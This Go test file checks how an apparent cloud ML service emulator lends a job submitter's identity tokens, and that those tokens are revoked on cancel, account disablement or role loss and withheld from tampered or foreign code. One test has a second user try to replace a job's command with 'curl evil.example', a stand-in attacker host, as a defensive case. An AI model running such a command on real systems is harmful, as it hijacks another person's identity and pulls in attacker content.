package ml

import (
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"castellan/internal/arm"
)

const asUser = `"identity":{"identityType":"UserIdentity"},`

// onBehalf asks a job's endpoint for a token of who submitted it.
func onBehalf(task Task, audience string) (int, string) {
	h := task.Listeners["obo"]
	if h == nil {
		return 0, "there is no endpoint"
	}
	r := httptest.NewRequest("GET", "/obo/token?resource="+url.QueryEscape(audience), nil)
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, r)
	return rec.Code, rec.Body.String()
}

// A job with its submitter's identity gets their tokens while it runs, reads and
// writes data as them, and loses all of it with its end.
func TestAJobActsAsWhoSubmittedIt(t *testing.T) {
	w := ready(t, systemIdentity)
	w.give("dan", roleDataScientist, ws)
	w.blobs.put(account2, "private", "d.txt", "for dan only\n")
	w.do("olga", "PUT", ws+"/datastores/secured", `{"properties":{"datastoreType":"AzureBlob","accountName":"acct2","containerName":"private","credentials":{"credentialsType":"None"}}}`, 201)
	const in = `"command":"cat ${{inputs.d}}; cp ${{inputs.d}} ${{outputs.o}}/copy; sleep 60","inputs":{"d":{"jobInputType":"uri_file","uri":"azureml://datastores/secured/paths/d.txt"}},"outputs":{"o":{"jobOutputType":"uri_folder","uri":"azureml://datastores/secured/paths/out"}}`
	w.roles.add("dan", roleBlobContributor, arm.MustID(account2))

	w.job("compute", strings.Replace(in, "sleep 60", "true", 1)) // the cluster has no role, whoever submits
	w.ends("compute", "Failed")
	w.do("olga", "PUT", ws+"/jobs/others", jobBody(asUser+in), 201) // nor has olga
	w.ends("others", "Failed")
	if got := w.runs.get("others").failure; !strings.Contains(got, "olga has no role") {
		t.Errorf("olga's job failed with %q", got)
	}
	w.do("dan", "PUT", ws+"/jobs/own", jobBody(asUser+strings.Replace(in, "sleep 60", "true", 1)), 201)
	w.ends("own", "Completed")
	if log := w.runs.get("own").artifacts[stdLog]; !strings.Contains(log, "for dan only") {
		t.Errorf("log = %q", log)
	}
	if string(w.blobs.made[w.blobs.place(arm.MustID(account2), "private")]["out/copy"]) == "" {
		t.Error("the output was not written")
	}

	w.do("dan", "PUT", ws+"/jobs/long", jobBody(asUser+in), 201)
	w.until("the job runs", func() bool { return w.status("long") == "Running" })
	task := w.boxes.last()
	if envOf(task, "OBO_ENDPOINT") == "" || envOf(task, "AZUREML_OBO_ENABLED") != "True" {
		t.Errorf("the environment has no endpoint: %q", envOf(task, "OBO_ENDPOINT"))
	}
	if code, body := onBehalf(task, "https://storage.azure.com"); code != 200 || body != "token of dan for https://storage.azure.com" {
		t.Errorf("on behalf of dan: %d %s", code, body)
	}
	w.do("olga", "POST", ws+"/jobs/long/cancel", "", 200)
	if code, body := onBehalf(task, "https://storage.azure.com"); code != 400 {
		t.Errorf("after the cancel: %d %s", code, body)
	}
	if n, _ := w.people.count(); n != 0 {
		t.Errorf("after the cancel %d loans live on", n)
	}
	w.ends("long", "Canceled")

	w.job("plain", `"command":"sleep 60"`)
	w.until("the job runs", func() bool { return w.status("plain") == "Running" })
	if code, _ := onBehalf(w.boxes.last(), "https://storage.azure.com"); code != 0 || envOf(w.boxes.last(), "OBO_ENDPOINT") != "" {
		t.Error("a job that asked for nobody's identity has an endpoint for it")
	}
	w.do("olga", "POST", ws+"/jobs/plain/cancel", "", 200)
	w.ends("plain", "Canceled")
}

// Whoever may sign in no more lends no more: a running job is ended and says why,
// one that waits is not begun (and one with its cluster's identity goes on).
func TestADisabledPersonsJobsEnd(t *testing.T) {
	w := ready(t, systemIdentity)
	w.job("lent", asUser+`"command":"sleep 60"`)
	w.job("managed", `"command":"sleep 60"`)
	w.job("waits", asUser+`"command":"echo RAN"`) // for a node: the cluster has two
	w.until("the jobs run", func() bool { return w.status("lent") == "Running" && w.status("managed") == "Running" })
	w.boxes.mu.Lock()
	var task Task
	for _, x := range w.boxes.tasks {
		if envOf(x, "AZUREML_RUN_ID") == "lent" {
			task = x
		}
	}
	w.boxes.mu.Unlock()
	w.people.leave(arm.Errorf(arm.Forbidden, "the account is disabled"))
	if code, body := onBehalf(task, "https://storage.azure.com"); code != 400 || !strings.Contains(body, "disabled") {
		t.Errorf("on behalf of somebody who is disabled: %d %s", code, body)
	}
	for _, name := range []string{"lent", "waits"} {
		w.ends(name, "Failed")
		if got := w.runs.get(name).failure; !strings.Contains(got, "disabled") {
			t.Errorf("%s failed with %q", name, got)
		}
	}
	if log := w.runs.get("waits").artifacts[stdLog]; log != "" {
		t.Errorf("the job that waited ran: %q", log)
	}
	if got := w.status("managed"); got != "Running" {
		t.Errorf("the job with the cluster's identity is %s", got)
	}
	w.do("olga", "POST", ws+"/jobs/managed/cancel", "", 200)
	w.ends("managed", "Canceled")
}

// Who lost the right to submit lends no more tokens to what they submitted.
func TestALostRightEndsTheLoan(t *testing.T) {
	w := ready(t, "")
	gone := arm.NewUUID()
	w.giveAs(gone, "dan", roleDataScientist, ws)
	w.do("dan", "PUT", ws+"/jobs/j1", jobBody(asUser+`"command":"sleep 60"`), 201)
	w.until("the job runs", func() bool { return w.status("j1") == "Running" })
	task := w.boxes.last()
	if code, body := onBehalf(task, "https://storage.azure.com"); code != 200 {
		t.Fatalf("before: %d %s", code, body)
	}
	w.engine.RemoveAssignment(gone)
	if code, body := onBehalf(task, "https://storage.azure.com"); code != 400 || strings.Contains(body, "token of") {
		t.Errorf("after: %d %s", code, body)
	}
	w.do("olga", "POST", ws+"/jobs/j1/cancel", "", 200)
	w.ends("j1", "Canceled")
}

// Nobody's identity is lent to code that is not what they submitted, and nobody
// changes what runs as somebody else (MID-10).
func TestForeignCodeIsLentNothing(t *testing.T) {
	w := ready(t, "")
	w.give("dan", roleDataScientist, ws)
	w.give("sam", roleDataScientist, ws)
	container := w.upload("mine", map[string]string{"run.sh": "echo GOOD"})
	w.boxes.hang = make(chan struct{})
	for _, n := range []string{"a", "b"} { // so that the third waits
		w.job(n, `"command":"true"`)
	}
	body := jobBody(asUser + `"command":"sh run.sh","codeId":"` + ws + `/codes/mine/versions/1"`)
	w.do("dan", "PUT", ws+"/jobs/dans", body, 201)
	w.do("sam", "PUT", ws+"/jobs/dans", strings.Replace(body, "sh run.sh", "curl evil.example", 1), 409)
	w.blobs.put(account1, container, "code/run.sh", "echo EVIL")
	close(w.boxes.hang)
	w.ends("dans", "Failed")
	if r := w.runs.get("dans"); !strings.Contains(r.failure, "hash mismatch") || r.artifacts[stdLog] != "" {
		t.Errorf("failed with %q, log %q", r.failure, r.artifacts[stdLog])
	}
	if loans, tokens := w.people.count(); tokens != 0 || loans != 0 {
		t.Errorf("%d tokens were lent, %d loans live", tokens, loans)
	}
}

// Only a person's own sign-in lends: no application, no job on somebody's
// behalf, no template.
func TestWhoLends(t *testing.T) {
	w := ready(t, "")
	for name, change := range map[string]func(*arm.Caller){
		"app":      func(c *arm.Caller) { c.Kind = arm.ServicePrincipal },
		"job":      func(c *arm.Caller) { c.SignIn = arm.SignIn{} },
		"template": func(c *arm.Caller) { c.SignIn = arm.SignIn{} },
	} {
		c := w.who["olga"]
		change(&c)
		w.mu.Lock()
		w.who[name] = c
		w.mu.Unlock()
		if code, m := w.refused(name, "PUT", ws+"/jobs/j-"+name, jobBody(asUser+`"command":"true"`), 400); code == "" || !strings.Contains(m, "UserIdentity") {
			t.Errorf("%s: %s %q", name, code, m)
		}
	}
	if n, _ := w.people.count(); n != 0 {
		t.Errorf("%d loans", n)
	}
}

// A cluster may bind its identities' tokens to the sandbox that got them.
func TestAClusterBindsItsTokens(t *testing.T) {
	w := ready(t, "")
	w.do("olga", "PUT", ws+"/computes/bound", `{"location":"local",`+systemIdentity+`"properties":{"computeType":"AmlCompute","properties":{"vmSize":"Standard_DS1_v2","propertyBag":{"bindTokens":true},"scaleSettings":{"maxNodeCount":1,"minNodeCount":0}}}}`, 201)
	w.do("olga", "PUT", ws+"/computes/wrong", `{"location":"local","properties":{"computeType":"AmlCompute","properties":{"vmSize":"Standard_DS1_v2","propertyBag":{"bindToken":true},"scaleSettings":{"maxNodeCount":1,"minNodeCount":0}}}}`, 400)
	w.do("olga", "PUT", ws+"/jobs/j1", strings.Replace(jobBody(`"command":"sleep 60"`), "/computes/cpu", "/computes/bound", 1), 201)
	w.until("the job runs", func() bool { return w.status("j1") == "Running" })
	task := w.boxes.last()
	r := httptest.NewRequest("GET", "/msi/token?resource=https://storage.azure.com", nil)
	r.Header.Set("secret", envOf(task, "MSI_SECRET"))
	rec := httptest.NewRecorder()
	task.Listeners["msi"].ServeHTTP(rec, r)
	if !strings.HasSuffix(rec.Body.String(), " in "+task.Name) {
		t.Errorf("the token is %q, want one that is bound to %s", rec.Body, task.Name)
	}
	w.do("olga", "POST", ws+"/jobs/j1/cancel", "", 200)
	w.ends("j1", "Canceled")
}
